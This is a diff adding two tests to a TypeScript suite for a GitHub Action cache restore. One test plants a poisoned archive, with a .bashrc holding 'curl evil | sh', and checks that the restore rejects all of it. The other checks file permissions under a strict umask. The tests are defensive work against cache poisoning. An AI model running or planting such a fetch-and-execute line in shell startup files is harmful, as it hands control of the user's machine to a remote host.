@@ -325,6 +325,94 @@ describe('a cache nobody can poison', () => {
     );
   }, 120_000);
 
+  test('a bad entry after good ones stops the restore: nothing of the archive is kept, nothing staged is left', async () => {
+    const m = machine();
+    const layout = layoutOf(m);
+    const src = path.join(m.root, 'poison');
+    fs.mkdirSync(path.join(src, '.hermes', 'tools'), { recursive: true });
+    fs.writeFileSync(path.join(src, '.hermes', 'tools', 'planted'), 'from the archive\n');
+    fs.writeFileSync(path.join(src, '.bashrc'), 'curl evil | sh\n');
+    const archive = path.join(m.root, 'poison.tzst');
+    // The good entries first: they reach tar, into staging, before the bad one is seen.
+    const tar = spawnSync('tar', [
+      '-cf',
+      archive,
+      '-P',
+      '--use-compress-program',
+      'zstdmt',
+      '--transform',
+      `s|^${src}|${m.home}|`,
+      path.join(src, '.hermes', 'tools'),
+      path.join(src, '.bashrc')
+    ]);
+    expect(tar.status).toBe(0);
+    const blobName = `late-poison-${Date.now()}/cache.tzst`;
+    await cache.container.getBlockBlobClient(blobName).uploadFile(archive);
+    cache.entries.push({
+      id: cache.nextId++,
+      key: layout.cacheKey,
+      version: cacheVersion(layout.cachePaths, 'zstd-without-long'),
+      blobName,
+      finalized: true,
+      size: fs.statSync(archive).size
+    });
+    const r = await step(m);
+    expect(r.outputs.outcome).toBe('success');
+    expect(annotations(r, 'warning')).toEqual([
+      expect.stringContaining(`${path.join(m.home, '.bashrc')} lies outside the cached folders`)
+    ]);
+    expect(fs.existsSync(path.join(m.home, '.bashrc'))).toBe(false);
+    expect(fs.existsSync(path.join(layout.storeDir, 'planted'))).toBe(false);
+    const left = [path.join(m.home, '.hermes'), path.join(m.home, '.local', 'bin')].flatMap(d =>
+      fs.readdirSync(d).filter(name => name.includes('.restore-'))
+    );
+    expect(left).toEqual([]);
+    expect(installRow(r)).toMatch(/installed by the install script/);
+  }, 120_000);
+
+  test('a hit under umask 077: the tree still readable and runnable by all, writable by its owner alone', async () => {
+    const m = machine();
+    expect((await step(m)).outputs.outcome).toBe('success');
+    wipeHome(m);
+    // The action (and tar) inherit this umask: the modes must come from the restore, not from it.
+    const before = process.umask(0o077);
+    let hit: ActionRun;
+    try {
+      hit = await step(m);
+    } finally {
+      process.umask(before);
+    }
+    expect(hit.outputs.outcome).toBe('success');
+    expect(installRow(hit)).toMatch(/restored from the Actions cache/);
+    expect(hit.log).toMatch(
+      /Restored \d+ entries \(\d+\.\d MB downloaded\), all inside the cached folders/
+    );
+    const layout = layoutOf(m);
+    const modes = new Set<string>();
+    for (const folder of layout.cachePaths.filter(p => fs.existsSync(p))) {
+      const all = fs.statSync(folder).isDirectory()
+        ? fs
+            .readdirSync(folder, { recursive: true, withFileTypes: true })
+            .map(e => path.join(e.parentPath, e.name))
+        : [];
+      for (const file of [folder, ...all]) {
+        const stat = fs.lstatSync(file);
+        if (stat.isSymbolicLink()) continue;
+        modes.add(`${stat.isDirectory() ? 'd' : 'f'}${(stat.mode & 0o7777).toString(8)}`);
+        expect(stat.uid).toBe(process.getuid!());
+      }
+    }
+    expect([...modes].sort()).toEqual(['d755', 'f644', 'f755']);
+    // And the directories the action made on the way, and its own link's.
+    for (const dir of [
+      '.hermes',
+      '.hermes/hermes-action',
+      '.hermes/hermes-action/bin',
+      '.local/bin'
+    ])
+      expect((fs.statSync(path.join(m.home, dir)).mode & 0o777).toString(8)).toBe('755');
+  }, 120_000);
+
   test('an event the gate checks (issue_comment) restores but never saves', async () => {
     const m = machine();
     const r = await step(m, {
